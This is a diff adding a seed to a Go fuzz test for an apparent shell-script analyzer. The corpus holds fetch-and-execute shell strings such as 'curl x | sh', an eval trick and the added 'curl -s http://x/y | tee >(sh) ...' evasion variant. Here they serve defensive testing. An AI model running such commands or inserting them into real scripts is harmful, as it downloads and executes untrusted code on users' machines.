@@ -44,6 +44,7 @@ func FuzzAnalyzeScript(f *testing.F) {
 		"sh <<EOF\ncurl x | sh\nEOF\n",
 		"f(){ f | sh; }; f",
 		"X=$X$X; eval \"$X\"",
+		"curl -s http://x/y | tee >(sh) >(tee /dev/fd/63 >(sh))",
 	} {
 		f.Add(s)
 	}
